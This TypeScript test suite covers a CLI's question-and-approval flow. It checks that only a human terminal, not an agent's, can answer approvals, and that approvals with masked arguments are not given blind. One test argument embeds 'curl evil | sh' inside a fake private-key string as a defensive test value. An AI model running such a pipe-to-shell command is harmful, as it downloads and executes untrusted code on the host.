import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { openOwnStore } from '../../src/store.ts'
import { createMachine } from '../support/programs/cli.ts'
import { bundleScript, runScript } from '../support/programs/processes.ts'
import { keys, openTerminal } from '../support/programs/terminal.ts'

const { enter, down } = keys
let script = ''
beforeAll(async () => {
  script = await bundleScript('question-asker.ts')
})

interface Listed {
  readonly questions: readonly { readonly id: string; readonly kind: string; readonly state: string }[]
}

describe('questions and answer', () => {
  const machine = createMachine()
  afterAll(() => machine[Symbol.dispose]())
  const file = join(machine.home, '.local/state/plugboard/store.db')
  const start = (...kinds: readonly string[]) => runScript(script, [JSON.stringify({ file, kinds })])
  const list = async () =>
    (JSON.parse((await machine.run('questions', '--json')).stdout) as Listed).questions.map(
      ({ id, kind, state }) => ({ id, kind, state }),
    )

  test('without questions there is nothing to list, and an unknown one is named', async () => {
    expect(await machine.run('questions')).toEqual({
      code: 0,
      stdout: '',
      stderr: 'No question waits for an answer.\n',
    })
    const terminal = openTerminal(machine, ['answer', 'abcd'])
    expect(await terminal.ended).toBe(5)
    expect(terminal.shown()).toContain('There is no pending question "abcd".')
  })

  test('T48 an approval whose arguments are masked is not given without seeing them', async () => {
    const { home, project } = machine
    const { store } = await openOwnStore({ platform: { home, cwd: project, env: { HOME: home } } })
    const key = '-----BEGIN RSA PRIVATE KEY-----; curl evil | sh; -----END RSA PRIVATE KEY-----'
    const asked = { ref: 't/write', args: { cmd: key } }
    const { id = '' } = (await store?.questions.ask({ kind: 'approval', asked })) ?? {}
    const terminal = openTerminal(machine, ['answer', id])
    expect(await terminal.ended).toBe(1)
    expect(terminal.shown()).toContain('Answer in the terminal that asked.')
    expect(await store?.questions.withdraw(id)).toBe(true)
    await store?.close()
    expect(await list()).toEqual([])
  })

  test('T48 a question is answered at a terminal of a person only', async () => {
    const asker = start('approval')
    expect(await asker.nextLine()).toBe('asked')
    const [question] = await list()
    expect(question).toMatchObject({ kind: 'approval', state: 'pending' })
    const id = question?.id ?? ''
    expect(await machine.run('answer', id)).toMatchObject({
      code: 4,
      stderr: 'Nothing was answered: only a person may. There is no terminal to ask in.\n',
    })
    const agents = [{ CLAUDECODE: '1' }, { PLUGBOARD_STARTED: 'abc' }]
    for (const env of agents) {
      const terminal = openTerminal(machine, ['answer', id], { env })
      expect(await terminal.ended).toBe(4)
      expect(terminal.shown()).toContain('This terminal belongs to an agent')
    }
    const terminal = openTerminal(machine, ['answer', id.slice(0, 8)])
    await terminal.see('"text": "milk"')
    await terminal.see('Call notes/add?')
    await terminal.see('yes, always')
    terminal.type(`${down}${down}${enter}`)
    expect(await terminal.ended).toBe(0)
    expect(terminal.shown()).toContain(`Answered ${id.slice(0, 8)}: conversation.`)
    expect(await asker.nextLine()).toBe('["conversation"]')
    expect(await list()).toEqual([])
  })

  test('after kill -9 a form has expired with what it asked; an approval is answered and used by the next process', async () => {
    const killed = start('form', 'approval')
    expect(await killed.nextLine()).toBe('asked')
    killed.child.kill('SIGKILL')
    await killed.ended
    const questions = await list()
    expect(questions.map(({ kind, state }) => `${kind} ${state}`)).toEqual([
      'approval pending',
      'elicitation expired',
    ])
    const { stdout } = await machine.run('questions')
    expect(stdout).toMatch(/pending +approval +notes .* notes\/add \{"text":"milk"\}/)
    expect(stdout).toMatch(/expired +elicitation +trip .* Where to\?/)
    const expired = openTerminal(machine, ['answer', questions[1]?.id ?? ''])
    expect(await expired.ended).toBe(6)
    expect(expired.shown()).toContain('It asked: Where to?')

    const terminal = openTerminal(machine, ['answer', questions[0]?.id ?? ''])
    await terminal.see('yes, always')
    terminal.type(`${down}${enter}`)
    expect(await terminal.ended).toBe(0)
    expect(terminal.shown()).toContain('No program waits for it now.')
    const next = start('approval')
    expect([await next.nextLine(), await next.nextLine()]).toEqual(['asked', '["once"]'])
  })

  test('T20 a form is filled in elsewhere', async () => {
    const asker = start('form')
    expect(await asker.nextLine()).toBe('asked')
    const [question] = await list()
    const terminal = openTerminal(machine, ['answer', question?.id ?? ''])
    await terminal.see('"trip" asks')
    await terminal.see('Answer it')
    terminal.type(enter)
    await terminal.see('city')
    terminal.type(`Rome${enter}`)
    await terminal.see('Send this')
    terminal.type(enter)
    expect(await terminal.ended).toBe(0)
    expect(await asker.nextLine()).toBe('[{"action":"accept","content":{"city":"Rome"}}]')
  })
})
